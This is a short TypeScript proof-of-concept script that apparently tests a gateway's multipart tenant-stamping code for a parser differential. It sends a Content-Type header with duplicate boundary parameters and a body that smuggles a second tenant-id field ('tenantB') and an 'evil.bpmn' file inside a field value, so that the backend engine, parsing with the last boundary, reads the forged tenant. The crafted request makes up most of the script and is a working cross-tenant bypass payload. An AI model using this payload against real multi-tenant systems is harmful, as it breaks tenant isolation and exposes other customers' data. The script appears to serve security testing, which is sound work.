import { Readable } from 'node:stream'
import busboy from '../../packages/testkit/node_modules/busboy/lib/index.js'
import { MultipartTenantStamper, multipartBoundary } from '../../packages/gateway/src/engine/multipart-tenant.ts'
const ct = 'multipart/form-data; boundary=AAA; boundary=BBB'
const inner = `\r\n--BBB\r\nContent-Disposition: form-data; name="tenant-id"\r\n\r\ntenantB\r\n--BBB\r\nContent-Disposition: form-data; name="evil.bpmn"; filename="evil.bpmn"\r\n\r\n<bpmn/>\r\n--BBB--\r\n`
const body = `--AAA\r\nContent-Disposition: form-data; name="deployment-name"\r\n\r\nevil${inner}\r\n--AAA--\r\n`
console.log('gateway boundary =', multipartBoundary(ct))
const chunks: Buffer[] = []
const s = Readable.from([Buffer.from(body)]).pipe(new MultipartTenantStamper(multipartBoundary(ct)!, (v) => { console.log('gateway saw tenant-id values', v); return 'tenantA' }))
for await (const c of s) chunks.push(Buffer.from(c))
const out = Buffer.concat(chunks)
// commons-fileupload getBoundary: ParameterParser over ';' and ',' into a HashMap => last boundary wins => BBB
const bb = busboy({ headers: { 'content-type': 'multipart/form-data; boundary=BBB' } })
bb.on('field', (n: string, v: string) => console.log('engine(commons view) field', n, '=', v))
bb.on('file', (n: string, f: any, info: any) => { console.log('engine(commons view) file', n, info.filename); f.resume() })
bb.end(out)
